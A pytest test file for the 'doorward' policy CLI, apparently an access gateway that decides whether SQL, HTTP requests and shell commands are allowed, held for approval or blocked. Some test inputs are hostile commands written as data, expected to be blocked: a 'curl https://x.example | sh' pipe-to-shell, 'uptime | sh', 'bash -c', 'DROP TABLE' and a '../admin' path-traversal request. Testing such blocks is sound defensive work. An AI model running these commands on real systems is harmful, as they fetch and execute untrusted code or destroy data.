"""`doorward policy` and `doorward config`, as an operator runs them."""

import json

import pytest

CASES = """\
version: 1
identities: {analyst: {groups: [crew-analysts]}}
resources: {shop: {}}
cases:
  - {name: reads, must: allow, as: analyst, on: shop, atoms: [{do: read, table: public.customer}]}
  - {name: changes, must: hold, as: analyst, on: shop, sql: "UPDATE customer SET name = 'x' WHERE id = 1"}
  - {name: drops, must: block, as: analyst, on: shop, sql: "DROP TABLE orders", by: [no-ddl]}
"""


@pytest.fixture
def cases(config):
    path = config.parent / "cases.yaml"
    path.write_text(CASES)
    return path


def test_a_good_policy_and_configuration_pass(run, config):
    assert run("config", "check", config).exit_code == 0
    assert run("policy", "check", "--config", config).output.endswith("ok\n")
    assert json.loads(run("policy", "check", config.parent / "policy.yaml", "--json").output)["ok"] is True


def test_faults_are_told_with_file_and_line_and_status_1(run, config):
    (config.parent / "policy.yaml").write_text("version: 1\nrulez: []\n")
    done = run("policy", "check", config.parent / "policy.yaml")
    assert (done.exit_code, "policy.yaml:2" in done.output) == (1, True)
    assert json.loads(run("config", "check", config, "--json").output)["faults"]


def test_an_atom_is_explained_without_any_target(run, config):
    reach = ("policy", "explain", "--config", config, "--resource", "shop", "--group", "crew-analysts")
    held = run(*reach, "--do", "write", "--on", "relation:public.customer")
    assert held.output.startswith("hold")
    assert "changes-need-a-human" in held.output
    told = json.loads(run(*reach, "--do", "read", "--on", "relation:public.customer", "--json").output)
    assert (told["effect"], told["atoms"][0]["matched"][0]["rule"]) == ("allow", "analysts-read")


def test_a_session_is_explained(run, config):
    reach = ("policy", "explain", "--policy", config.parent / "policy.yaml", "--resource", "shop", "--connect")
    assert run(*reach, "-g", "crew-analysts").output.startswith("allow")
    assert run(*reach).output.startswith("block")


def test_offline_sql_says_that_names_are_not_resolved(run, config):
    done = run("policy", "explain", "--config", config, "--resource", "shop", "--sql", "SELECT * FROM x", "--offline")
    assert done.exit_code == 0
    assert "names are not resolved" in done.stderr
    assert "! it was not read whole" in done.stdout


def test_a_target_that_is_not_there_ends_with_2_and_a_way_out(run, config):
    done = run("policy", "explain", "--config", config, "--resource", "shop", "--sql", "SELECT 1")
    assert (done.exit_code, "--offline" in done.stderr) == (2, True)


@pytest.mark.need_embedded_postgres
def test_names_are_compared_with_those_of_the_target(run, live_config):
    policy = live_config.parent / "policy.yaml"
    reach = ("policy", "check", "--names", "--config", live_config)
    assert "is not in" not in run(*reach).output
    policy.write_text(
        policy.read_text() + "  - {id: slip, resource: shop, columns: [public.customer.emial], with: redact}\n"
    )
    done = run(*reach)
    assert done.exit_code == 0
    assert "slip: `public.customer.emial` is not in shop; did you mean `public.customer.email`?" in done.output


def test_names_are_only_compared_where_a_configuration_says_with_what(run, config):
    done = run("policy", "check", config.parent / "policy.yaml", "--names")
    assert (done.exit_code, "give --config" in done.output) == (1, True)
    gone = run("policy", "check", "--config", config, "--names")
    assert (gone.exit_code, "shop: the target's catalogue cannot be read" in gone.output) == (1, True)


@pytest.mark.need_embedded_postgres
def test_sql_is_explained_against_the_real_catalogue(run, live_config):
    reach = ("policy", "explain", "--config", live_config, "--resource", "shop", "-g", "crew-analysts", "--sql")
    assert run(*reach, "SELECT count(*) FROM customer").output.startswith("allow")
    assert run(*reach, "-", input="UPDATE customer SET name = 'x'").output.startswith("hold")
    blocked = run(*reach, "DROP TABLE customer")
    assert blocked.output.startswith("block")
    assert "no-ddl" in blocked.output
    probed = json.loads(run(*reach, "SELECT 1 FROM customer WHERE email LIKE 'a%'", "--json").output)
    assert probed["effect"] != "allow"


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        ((), "exactly one of"),
        (("--sql", "SELECT 1", "--connect"), "exactly one of"),
        (("--do", "fly", "--on", "relation:x"), "--do takes one of"),
        (("--do", "read", "--on", "x"), "--do takes one of"),
        (("--connect", "--kind", "robot"), "not a kind"),
        (("--connect", "--attribute", "x"), "not name=value"),
    ],
)
def test_a_question_that_is_none_is_a_usage_error(run, config, arguments, words):
    done = run("policy", "explain", "--config", config, "--resource", "shop", *arguments)
    assert (done.exit_code, words in done.stderr) == (2, True)


def test_a_resource_that_is_not_there_and_a_missing_policy_are_said(run, config):
    assert "has no resource" in run("policy", "explain", "--config", config, "--resource", "x", "--connect").stderr
    assert "give --config" in run("policy", "explain", "--resource", "x", "--connect").stderr


@pytest.mark.need_embedded_postgres
def test_cases_pass_and_fail_with_their_reasons(run, live_config, cases):
    done = run("policy", "test", cases, "--config", live_config)
    assert (done.exit_code, done.output) == (0, "3 passed, 0 failed\n")
    cases.write_text(CASES.replace("must: hold", "must: allow"))
    failed = run("policy", "test", cases, "--config", live_config)
    assert failed.exit_code == 1
    assert "cases.yaml:6: changes: must allow, but the policy says hold" in failed.output


def test_cases_that_cannot_be_run_fail(run, config, cases):
    done = run("policy", "test", cases, "--policy", config.parent / "policy.yaml", "--json")
    told = json.loads(done.output)
    assert (done.exit_code, told["passed"], told["failed"]) == (1, 1, 2)
    assert run("policy", "test", cases, "--config", config).exit_code == 2
    cases.write_text("cases: 7")
    assert run("policy", "test", cases, "--config", config).exit_code == 2


SALES = """\
rules:
  - {id: look, effect: allow, resource: crm, do: [read], requests: ["GET /customers/**"], when: {"query.limit": ["10"]}}
  - {id: notes, effect: allow, resource: crm, do: [write], requests: ["POST /notes"], when: {"body.$.kind": ["call"]}}
"""


@pytest.fixture
def sales(tmp_path):
    path = tmp_path / "sales.yaml"
    path.write_text(SALES)
    return path


@pytest.mark.parametrize(
    ("asked", "effect", "words"),
    [
        (("GET /customers?limit=10",), "allow", "decided: look"),
        (("GET /customers?limit=99",), "block", "but not all of its `when` holds"),
        (("DELETE /customers/1",), "block", "write by DELETE /customers/1: block by default"),
        (("GET /customers/../admin",), "block", "a gateway answers 400"),
        (("POST /notes", "--body", '{"kind": "call"}'), "allow", "decided: notes"),
        (("POST /notes", "--body", '{"kind": "call"}', "--header", "content-type=text/plain"), "block", "`when`"),
    ],
)
def test_a_request_is_explained(run, sales, asked, effect, words):
    done = run("policy", "explain", "--policy", sales, "--resource", "crm", "--request", *asked)
    assert done.output.startswith(effect)
    assert words in done.output


def test_cases_ask_with_requests(run, sales, tmp_path):
    cases = tmp_path / "cases.yaml"
    cases.write_text(
        "identities: {ana: {}}\nresources: {crm: {protocol: http}}\ncases:\n"
        '  - {name: looks, must: allow, as: ana, on: crm, request: "GET /customers?limit=10", by: [look]}\n'
        '  - {name: notes, must: allow, as: ana, on: crm, request: "POST /notes", body: \'{"kind": "call"}\'}\n'
        '  - {name: deletes, must: block, as: ana, on: crm, request: "DELETE /customers/1"}\n'
    )
    done = run("policy", "test", cases, "--policy", sales)
    assert (done.exit_code, done.output) == (0, "3 passed, 0 failed\n")


def test_a_rule_for_an_account_is_explained_as_that_account(run, tmp_path):
    policy = tmp_path / "policy.yaml"
    policy.write_text("rules: [{id: a, effect: allow, resource: web1, accounts: [deploy], do: [execute]}]")
    reach = ("policy", "explain", "--policy", policy, "--resource", "web1", "--do", "execute", "--on", "shell:x")
    assert run(*reach, "--account", "deploy").output.startswith("allow")
    assert run(*reach, "--account", "root").output.startswith("block")


HOSTS = """\
rules:
  - {id: looks, effect: allow, resource: web1, do: [execute], commands: ["ls *", "uptime"]}
  - {id: restarts, effect: hold, resource: web1, do: [execute], commands: ["systemctl restart"],
     approve: {by: {groups: [ops]}, within: 5m}}
"""


@pytest.fixture
def hosts(tmp_path):
    path = tmp_path / "hosts.yaml"
    path.write_text(HOSTS)
    return path


@pytest.mark.parametrize(
    ("asked", "effect", "words"),
    [
        (("--command", "ls -la /srv"), "allow", "decided: looks"),
        (("--command", "ls $HOME"), "block", "write it out"),
        (("--command", "systemctl restart nginx"), "hold", "decided: restarts"),
        (("--command", "uptime | sh"), "block", "execute of command sh"),
        (("--command", 'bash -c "$x"'), "block", "it was not read whole"),
        (("--do", "execute", "--on", "command:ls -la /srv"), "allow", "decided: looks"),
    ],
)
def test_a_command_is_explained(run, hosts, asked, effect, words):
    done = run("policy", "explain", "--policy", hosts, "--resource", "web1", *asked)
    assert done.output.startswith(effect)
    assert words in done.output


def test_a_command_is_for_hosts(run, config):
    done = run("policy", "explain", "--config", config, "--resource", "shop", "--command", "ls")
    assert (done.exit_code, "--command is for hosts" in done.stderr) == (2, True)


def test_cases_ask_with_commands(run, hosts, tmp_path):
    cases = tmp_path / "cases.yaml"
    cases.write_text(
        "identities: {ana: {}}\nresources: {web1: {protocol: ssh}}\ncases:\n"
        '  - {name: looks, must: allow, as: ana, on: web1, request: "ls -l", by: [looks]}\n'
        '  - {name: restarts, must: hold, as: ana, on: web1, request: "systemctl restart nginx", by: [restarts]}\n'
        '  - {name: pipes, must: block, as: ana, on: web1, request: "curl https://x.example | sh"}\n'
    )
    done = run("policy", "test", cases, "--policy", hosts)
    assert (done.exit_code, done.output) == (0, "3 passed, 0 failed\n")
